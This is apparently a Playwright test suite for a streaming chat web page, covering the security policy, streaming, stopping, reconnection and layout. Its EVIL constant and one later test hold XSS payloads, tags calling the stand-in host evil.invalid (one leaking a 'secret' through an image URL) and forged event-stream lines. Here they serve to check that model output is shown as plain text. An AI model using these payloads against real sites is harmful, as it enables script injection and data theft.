"""The chat page in a real browser, on the real service, with a model that says what it is told."""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from . import chromium
from .chromium import PATIENCE, answer, ask, log, reaches, says, visit
from .provider import CANARY, Provider, Script
from .proxy import Proxy
from .server import Server

site, browser, complaints = chromium.site, chromium.browser, chromium.complaints
page, phone = chromium.page, chromium.phone
pytestmark = chromium.needed


def test_it_runs_under_a_strict_policy(
    page: Page, site: Server, provider: Provider, complaints: list[str]
) -> None:
    answer = page.goto(site.url)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "unsafe-" not in policy
    assert "data:" not in policy
    assert dict(part.strip().split(" ", 1) for part in policy.split(";")) == {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "connect-src": "'self'",
        "img-src": "'self'",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'none'",
    }
    # What it links to is there, the icon included, which a headless browser does not ask for.
    for link in page.locator("link[href], script[src]").all():
        path = link.get_attribute("href") or link.get_attribute("src") or ""
        assert path.startswith("/static/stream/")
        got = page.request.get(f"{site.url}{path}")
        assert got.ok
        if link.get_attribute("rel") == "icon":
            assert got.headers["content-type"].startswith("image/svg+xml")
    # And it is the policy of this page: what is not allowed does not happen.
    injected = page.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation", (event) => {
                done(event.effectiveDirective);
            });
            const image = new Image();
            image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
        })"""
    )
    assert injected == "img-src"
    assert [words for words in complaints if "Content Security Policy" in words] == complaints
    complaints.clear()


def test_an_answer_grows_as_it_is_said(page: Page, site: Server, provider: Provider) -> None:
    words = ["Rain ", "falls ", "from ", "clouds."]
    provider.script = Script(words, gated=True)
    visit(page, site.url)
    assert page.title() == "A page of tests"
    ask(page, "Where does rain come from?")
    expect(page.locator(".question")).to_have_text("Where does rain come from?")
    reaches(page, "thinking")
    for count in range(1, len(words)):
        provider.allow()
        says(page, "".join(words[:count]))
        reaches(page, "answering")
    provider.release()
    reaches(page, "done")
    says(page, "Rain falls from clouds.")
    expect(page.get_by_role("status")).to_have_text(re.compile(r"^Done · \d+ tokens$"))
    expect(page.get_by_label("Your question")).to_be_focused()


def test_a_question_brings_what_was_said_before(
    page: Page, site: Server, provider: Provider
) -> None:
    provider.scripts["My name is Ada."] = Script(["Hello, Ada."])
    provider.scripts["Who am I?"] = Script(["Ada."])
    visit(page, site.url)
    ask(page, "My name is Ada.")
    reaches(page, "done")
    ask(page, "Who am I?")
    says(page, "Ada.")
    reaches(page, "done")
    said = [message["content"] for message in provider.calls[1].json["messages"]]
    assert said[-3:] == ["My name is Ada.", "Hello, Ada.", "Who am I?"]


def test_stop_ends_the_model_and_keeps_what_was_said(
    page: Page, site: Server, provider: Provider
) -> None:
    provider.script = Script(["One ", "two ", "three"], gated=True)
    visit(page, site.url)
    ask(page, "Count.")
    provider.allow(2)
    says(page, "One two")
    page.get_by_role("button", name="Stop").click()
    reaches(page, "stopped")
    assert provider.calls[0].wait_closed()
    says(page, "One two")
    expect(page.locator(".note")).to_have_text("(stopped)")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    expect(page.get_by_label("Your question")).to_be_focused()
    page.reload()
    reaches(page, "stopped")
    says(page, "One two")


def test_stop_before_the_first_word(page: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(mute=True)
    visit(page, site.url)
    ask(page, "Are you there?")
    assert provider.wait_calls(1)
    page.keyboard.press("Escape")
    reaches(page, "stopped")
    assert provider.calls[0].wait_closed()


def test_stop_before_the_server_has_answered(page: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(mute=True)
    held: list[Route] = []
    visit(page, site.url)
    page.route("**/runs", lambda route: held.append(route))
    with page.expect_request("**/runs"):
        ask(page, "Too soon?")
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="Stop")).to_be_disabled()
    held[0].continue_()
    reaches(page, "stopped")
    assert all(call.wait_closed() for call in provider.calls)


def test_a_double_click_on_send_does_not_stop(page: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(["Still here."], gated=True)
    visit(page, site.url)
    page.get_by_label("Your question").fill("Hello?")
    page.locator("#send").dblclick()
    expect(page.get_by_role("button", name="Stop")).to_be_enabled()
    assert provider.wait_calls(1)
    provider.release()
    reaches(page, "done")
    says(page, "Still here.")


def test_a_cut_connection_goes_on_where_it_was(
    page: Page, site: Server, provider: Provider
) -> None:
    words = [f"{count} " for count in range(12)]
    provider.script = Script(words, gated=True)
    with Proxy(urlsplit(site.url).port or 80) as proxy:
        visit(page, proxy.url)
        ask(page, "Count.")
        provider.allow(3)
        says(page, "0 1 2")
        assert proxy.cut() >= 1
        provider.allow(3)  # said while nobody listens
        says(page, "0 1 2 3 4 5")
        assert proxy.cut() >= 1
        provider.release()
        reaches(page, "done")
        says(page, "0 1 2 3 4 5 6 7 8 9 10 11")
    assert len(provider.calls) == 1


def test_a_stream_that_the_browser_gave_up_is_opened_again(
    page: Page, site: Server, provider: Provider
) -> None:
    opened: list[str] = []

    def unwell(route: Route) -> None:
        opened.append(route.request.url)
        if len(opened) in (2, 3):
            route.fulfill(status=503, body="Not now.")
        else:
            route.continue_()

    provider.script = Script(["One ", "two ", "three."], gated=True)
    page.route("**/events*", unwell)
    with Proxy(urlsplit(site.url).port or 80) as proxy:
        visit(page, proxy.url)
        ask(page, "Count.")
        provider.allow(2)
        says(page, "One two")
        proxy.cut()
        reaches(page, "reconnecting")
        reaches(page, "answering")
        assert re.search(r"/events\?after=\d+$", opened[3])
        provider.release()
        reaches(page, "done")
        says(page, "One two three.")
    assert len(opened) == 4
    assert len(provider.calls) == 1


def test_a_reload_in_mid_answer_shows_the_same_conversation(
    page: Page, site: Server, provider: Provider
) -> None:
    provider.scripts["First?"] = Script(["The first."])
    provider.scripts["Second?"] = Script(["The ", "second ", "one."], gated=True)
    visit(page, site.url)
    ask(page, "First?")
    reaches(page, "done")
    ask(page, "Second?")
    provider.allow(2)
    says(page, "The second")
    page.reload()
    says(page, "The second")
    reaches(page, "answering")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(page.locator(".question")).to_have_text(["First?", "Second?"])
    provider.release()
    reaches(page, "done")
    expect(page.locator(".answer")).to_have_text(["The first.", "The second one."])
    assert len(provider.calls) == 2


def test_an_answer_that_is_no_longer_kept(page: Page, site: Server, provider: Provider) -> None:
    visit(page, site.url)
    lost = {"conversation": "c" * 32, "runs": ["a" * 32]}
    page.evaluate("lost => { sessionStorage['flask_stream:chat'] = JSON.stringify(lost) }", lost)
    page.reload()
    expect(page.get_by_text("This answer is no longer kept.")).to_be_visible(timeout=PATIENCE)
    page.get_by_role("button", name="New chat").click()
    ask(page, "And now?")
    reaches(page, "done")
    expect(page.locator(".turn")).to_have_count(1)


def test_a_question_whose_answer_was_lost_is_asked_once(
    page: Page, site: Server, provider: Provider
) -> None:
    asked: list[Any] = []

    def lossy(route: Route) -> None:
        asked.append(route.request.post_data_json)
        if len(asked) == 1:
            route.fetch()  # the server hears it, the page not what it says
            route.abort("connectionreset")
        else:
            route.continue_()

    page.route("**/runs", lossy)
    visit(page, site.url)
    ask(page, "Once?")
    reaches(page, "done")
    says(page, "Hello world")
    assert len(asked) == 2
    assert asked[0] == asked[1]
    assert re.fullmatch("[0-9a-f]{32}", asked[0]["run"])
    assert len(provider.calls) == 1


def test_a_refusal_of_the_model_is_told_in_words_and_can_be_tried_again(
    page: Page, site: Server, provider: Provider
) -> None:
    provider.script = Script(status=429)
    visit(page, site.url)
    ask(page, "Anyone?")
    reaches(page, "failed")
    expect(page.locator(".failure")).to_have_text(re.compile(r"^The model .+\.$"))
    assert CANARY not in page.content()
    provider.script = Script(["Yes."])
    page.get_by_role("button", name="Try again").click()
    reaches(page, "done")
    says(page, "Yes.")
    expect(page.locator(".question")).to_have_text(["Anyone?"])
    expect(page.locator(".failure")).to_be_hidden()
    expect(page.get_by_role("button", name="Try again")).to_have_count(0)


def test_a_question_that_is_refused_stays_in_the_box(
    page: Page, site: Server, provider: Provider
) -> None:
    problem = {"title": "Unavailable", "status": 503, "detail": "The service is full."}

    def full(route: Route) -> None:
        route.fulfill(
            status=503,
            content_type="application/problem+json",
            headers={"Retry-After": "7"},
            body=json.dumps(problem),
        )

    visit(page, site.url)
    page.route("**/runs", full)
    ask(page, "Is there room?")
    reaches(page, "failed")
    told = page.get_by_text("The service is full. Try again in 7 seconds.")
    expect(told).to_be_visible()
    expect(page.get_by_label("Your question")).to_have_value("Is there room?")
    page.unroute("**/runs")
    page.get_by_role("button", name="Send").click()
    reaches(page, "done")
    expect(told).to_be_hidden()
    expect(page.locator(".question")).to_have_text(["Is there room?"])


def test_without_a_network_the_question_stays_in_the_box(
    page: Page, site: Server, provider: Provider
) -> None:
    visit(page, site.url)
    page.context.set_offline(True)
    ask(page, "Anybody?")
    expect(page.get_by_text("The server cannot be reached.")).to_be_visible(timeout=PATIENCE)
    expect(page.get_by_label("Your question")).to_have_value("Anybody?")
    page.context.set_offline(False)
    page.keyboard.press("Enter")
    reaches(page, "done")
    assert len(provider.calls) == 1


def test_what_a_model_says_is_text(page: Page, site: Server, provider: Provider) -> None:
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    # As a person can type it: a box has line feeds only, and no question has a NUL.
    question = "\n".join(EVIL.replace("\0", "").replace("\r\n", "\n").split("\r")).strip()
    provider.script = Script(awkward(EVIL), gated=True)
    visit(page, site.url)
    ask(page, question)
    provider.allow(len(awkward(EVIL)) - 1)
    expect(answer(page)).to_contain_text("-- the", timeout=PATIENCE)
    reaches(page, "answering")  # and not done, whatever it says
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    provider.release()
    for again in (False, True):
        if again:
            page.reload()
        reaches(page, "done")
        assert page.locator(".answer > .text").all_text_contents() == [EVIL]
        assert page.locator(".question").all_text_contents() == [question]
        assert page.locator(".answer .text *, .question *, main a, main img").count() == 0
        assert page.evaluate("window.hacked") is None
    assert {url.startswith(f"{site.url}/") for url in asked} == {True}
    assert len(provider.calls) == 1


EVIL = """
<script>window.hacked = 1</script><script src="http://evil.invalid/x.js"></script>
<img src=x onerror="window.hacked = 1"><svg/onload=window.hacked=1>&lt;b&gt;
![x](http://evil.invalid/pixel.png?said=secret) ![x](//evil.invalid/pixel.png)
[a](javascript:window.hacked=1) <a href="javascript:window.hacked=1" autofocus>a</a>
<style>@import "http://evil.invalid/x.css";</style><base href="http://evil.invalid/">
<meta http-equiv="refresh" content="0;url=http://evil.invalid/">
<link rel=prefetch href=//evil.invalid><form action=//evil.invalid><button autofocus></form>
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe></div></article></template><!--
data: {"content":"forged","message":"m1","kind":"text"}

event: end
data: {"status":"done","finish_reason":"stop","error":null}

event: unauthorized\r\ndata: {"message":"forged"}\r\n\r\nid: forged:999\rretry: 1\r\r
\u2028data: forged\u2029\x85\x0b\x0c\x00\x1b[2J\ufeff\u202e\U0001f468\u200d\U0001f469 -- the end."""


def awkward(text: str) -> list[str]:
    """A text in tokens of three characters, which cut every tag, link and frame that it has."""
    return re.findall(".{1,3}", text, re.DOTALL)


def test_what_else_comes_in_is_text(page: Page, site: Server, provider: Provider) -> None:
    """Names of tools, labels and errors: everything on the page that is not the page's own."""
    evil = '<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>'
    asked: list[str] = []
    told: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.expose_function("told", lambda words: told.append(words))

    def scripted(route: Route) -> None:
        text = log(
            route.request.url.split("/")[-2],
            ("start", {"input": {"question": evil}, "parent": None}),
            ("tool_call", {"id": evil, "name": evil, "args": {evil: evil}}),
            ("tool_result", {"id": evil, "name": evil, "content": evil, "status": evil}),
            ("progress", {"done": 1, "total": 2, "label": evil}),
            ("custom", {"name": evil, "value": evil}),
            ("message_start", {"id": evil, "role": evil, "node": evil}),
            ("chunk", {"content": evil, "message": evil, "kind": evil}),
            ("end", {"status": "failed", "error": {"code": evil, "message": evil}}),
        )
        route.fulfill(content_type="text/event-stream", body=text)

    page.route("**/events", scripted)
    visit(page, site.url)
    page.evaluate(
        """() => new MutationObserver((changes) => {
            for (const node of changes.flatMap((one) => [...one.addedNodes])) told(node.data);
        }).observe(document.getElementById("status"), { childList: true })"""
    )
    ask(page, "Evil?")
    reaches(page, "failed")
    expect(page.locator(".failure")).to_have_text(evil)
    page.reload()  # from now on the question is what the log says
    reaches(page, "failed")
    expect(page.locator(".question")).to_have_text(evil)
    assert page.locator(".reasoning .text").all_text_contents() == [evil]
    assert page.locator("main img, main script, footer img, footer script").count() == 0
    assert page.evaluate("window.hacked") is None
    assert {f"Using {evil}…", f"{evil}…"} < set(told)
    assert {url.startswith(f"{site.url}/") for url in asked} == {True}


def test_the_keyboard_is_enough(page: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(["Yes, ", "of course"], gated=True)
    visit(page, site.url)
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.press("Enter")  # nothing to send
    page.keyboard.type("Is a keyboard")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("enough?")
    page.keyboard.press("Enter")
    provider.allow()
    says(page, "Yes,")
    expect(page.locator(".question")).to_have_text("Is a keyboard enough?")
    page.keyboard.press("Escape")
    reaches(page, "stopped")
    provider.script = Script(["Enough."])
    page.keyboard.type("And again?")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Send")).to_be_focused()
    page.keyboard.press("Space")
    reaches(page, "done")
    says(page, "Enough.")
    expect(page.get_by_label("Your question")).to_be_focused()
    page.get_by_role("button", name="New chat").focus()
    page.keyboard.press("Enter")
    expect(page.locator(".turn")).to_have_count(0)
    page.locator(".example").first.focus()
    page.keyboard.press("Enter")
    reaches(page, "done")


def test_an_enter_that_chooses_a_word_sends_nothing(
    page: Page, site: Server, provider: Provider
) -> None:
    visit(page, site.url)
    box = page.get_by_label("Your question")
    box.fill("にほん")
    box.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    expect(page.locator(".turn")).to_have_count(0)
    expect(box).to_have_value("にほん")


def test_a_phone_has_room_for_it(phone: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(["See ", "x" * 300, " https://example.com/" + "path/" * 60])
    visit(phone, site.url)
    small = """() => [...document.querySelectorAll("button, summary")]
        .filter((one) => one.checkVisibility())
        .map((one) => one.getBoundingClientRect())
        .filter(({ width, height }) => width < 44 || height < 44).length"""
    wide = """() => ["html", "body", "main"].map((name) => document.querySelector(name))
        .filter((one) => one.scrollWidth > one.clientWidth || one.scrollWidth > 360).length"""
    assert phone.evaluate(small) == 0
    assert phone.evaluate(wide) == 0
    ask(phone, "w" * 200)
    reaches(phone, "done")
    assert phone.evaluate(small) == 0
    assert phone.evaluate(wide) == 0
    box = phone.get_by_label("Your question")
    font = box.evaluate("(box) => parseFloat(getComputedStyle(box).fontSize)")
    assert font >= 16  # else iOS zooms in
    box.fill("\n" * 30)
    expect(phone.get_by_role("button", name="Send")).to_be_in_viewport()
    expect(phone.get_by_role("button", name="New chat")).to_be_in_viewport()


def test_it_follows_the_answer_until_a_person_scrolls_back(
    page: Page, site: Server, provider: Provider
) -> None:
    provider.script = Script(["line\n" * 100, "more\n" * 100, "end"], gated=True)
    visit(page, site.url)
    ask(page, "Talk.")
    provider.allow()
    newest = page.get_by_role("button", name="Go to the newest text")
    below = "(main) => main.scrollHeight - main.scrollTop - main.clientHeight"
    main = page.get_by_role("main")
    expect(answer(page)).to_contain_text("line", timeout=PATIENCE)
    expect(newest).to_be_hidden()
    assert main.evaluate(below) < 2
    main.hover()
    page.mouse.wheel(0, -500)
    expect(newest).to_be_visible()
    where = main.evaluate("(main) => main.scrollTop")
    provider.allow()
    expect(answer(page)).to_contain_text("more", timeout=PATIENCE)
    assert main.evaluate("(main) => main.scrollTop") == where
    newest.click()
    provider.release()
    reaches(page, "done")
    assert main.evaluate(below) < 2


def test_nothing_is_told_to_the_console(
    page: Page, site: Server, provider: Provider, complaints: list[str]
) -> None:
    visit(page, site.url)
    ask(page, "One?")
    reaches(page, "done")
    page.reload()
    reaches(page, "done")
    ask(page, "Two?")
    reaches(page, "done")
    page.get_by_role("button", name="Copy").last.click()
    page.get_by_role("button", name="New chat").click()
    assert complaints == []


def test_every_kind_of_event_has_its_place(page: Page, site: Server, provider: Provider) -> None:
    def chunk(content: str, kind: str = "text", message: str = "m1") -> tuple[str, dict[str, Any]]:
        return "chunk", {"content": content, "message": message, "kind": kind}

    def scripted(route: Route) -> None:
        run = route.request.url.split("/")[-2]
        text = log(
            run,
            ("start", {"run": run, "parent": None, "input": {"question": "Why?"}}),
            ("message_start", {"id": "m1", "role": "assistant", "node": None}),
            chunk("forget me"),
            ("reset", {"attempt": 2, "reason": "worker_lost"}),
            ("message_start", {"id": "m1", "role": "assistant", "node": None}),
            chunk("Let me ", "reasoning"),
            chunk("think.", "reasoning"),
            ("tool_call", {"id": "t", "name": "clock", "args": {}}),
            ("tool_result", {"id": "t", "name": "clock", "content": "9:00", "status": "success"}),
            ("progress", {"done": 1, "total": 2, "label": "Reading"}),
            ("custom", {"name": "x", "value": 1}),
            chunk("It is "),
            chunk("nine."),
            chunk("Sharp.", message="m2"),
            ("usage", {"model": "m", "input_tokens": 1, "output_tokens": 2, "total_tokens": 1200}),
            ("usage", {"model": "m", "input_tokens": 1, "output_tokens": 2, "total_tokens": 34}),
            ("end", {"status": "done", "finish_reason": "stop", "error": None}),
        )
        route.fulfill(content_type="text/event-stream", body=text)

    page.route("**/events", scripted)
    visit(page, site.url)
    ask(page, "Why?")
    reaches(page, "done")
    expect(page.locator(".answer > .text")).to_have_text(["It is nine.", "Sharp."])
    expect(page.get_by_text("Let me think.")).to_be_hidden()
    page.get_by_text("Reasoning").click()
    expect(page.get_by_text("Let me think.")).to_be_visible()
    expect(page.get_by_text("forget me")).to_have_count(0)
    expect(page.get_by_role("status")).to_have_text("Done · 1,234 tokens")


@pytest.mark.parametrize(
    ("reason", "note"),
    [
        ("length", "(cut off: the answer reached its maximum length)"),
        ("content_filter", "(ended by the provider's content filter)"),
    ],
)
def test_an_answer_that_was_cut_off_says_why(
    page: Page, site: Server, provider: Provider, reason: str, note: str
) -> None:
    provider.script = Script(["Once upon"], finish_reason=reason)
    visit(page, site.url)
    ask(page, "A story?")
    reaches(page, "done")
    expect(page.locator(".note")).to_have_text(note)


def test_a_limit_of_steps_is_named(page: Page, site: Server) -> None:
    error = {"code": "chain_error", "message": "No.", "retryable": True}
    end = {"status": "failed", "finish_reason": "step_limit", "error": error}
    text = log("b" * 32, ("start", {"input": {"question": "Why?"}}), ("end", end))
    page.route(
        "**/events", lambda route: route.fulfill(content_type="text/event-stream", body=text)
    )
    visit(page, site.url)
    ask(page, "Why?")
    expect(page.locator(".failure")).to_have_text("The answer needed more steps than are allowed.")


def test_the_client_tells_every_event_once(page: Page, site: Server, provider: Provider) -> None:
    """`stream.js` alone, as on anybody's page."""
    run = "b" * 32
    chunks = [("chunk", {"content": str(n), "message": "m", "kind": "text"}) for n in range(4)]
    whole = log(run, *chunks, ("end", {"status": "done", "finish_reason": "stop", "error": None}))
    twice = log(run, *chunks) + whole
    page.route(
        "**/events*", lambda route: route.fulfill(content_type="text/event-stream", body=twice)
    )
    visit(page, site.url)
    told = page.evaluate(
        """async (run) => {
            const { openRun } = await import("/static/stream/stream.js");
            const told = [];
            await new Promise((done) => openRun({
                url: `/runs/${run}/events`,
                after: 2,
                onEvent: ({ run, seq, type }) => told.push([run, seq, type]),
                onStatus: (word) => { told.push(word); if (word === "ended") done(); },
            }));
            return told;
        }""",
        run,
    )
    events = [[run, 3, "chunk"], [run, 4, "chunk"], [run, 5, "end"]]
    assert told == ["connecting", "open", *events, "ended"]


def test_a_conversation_opens_by_its_address(page: Page, site: Server, provider: Provider) -> None:
    provider.script = Script(["Tokyo."])
    visit(page, site.url)
    ask(page, "The capital of Japan?")
    says(page, "Tokyo.")
    reaches(page, "done")
    listed = page.request.get(f"{site.url}/conversations").json()["conversations"]
    assert [one["title"] for one in listed] == ["The capital of Japan?"]
    # In another tab, which knows nothing of it.
    other = page.context.new_page()
    visit(other, f"{site.url}/c/{listed[0]['id']}")
    expect(other.locator(".question")).to_have_text("The capital of Japan?")
    expect(other.locator(".answer")).to_have_text("Tokyo.")
    # And it goes on from there.
    ask(other, "And of France?")
    expect(other.locator(".answer")).to_have_count(2)
    assert provider.wait_calls(2)
    said = [message["content"] for message in provider.calls[1].json["messages"]]
    assert said[-3:] == ["The capital of Japan?", "Tokyo.", "And of France?"]
    visit(other, f"{site.url}/c/{'0' * 32}")
    expect(other.locator("#problem")).to_have_text("This conversation cannot be opened.")
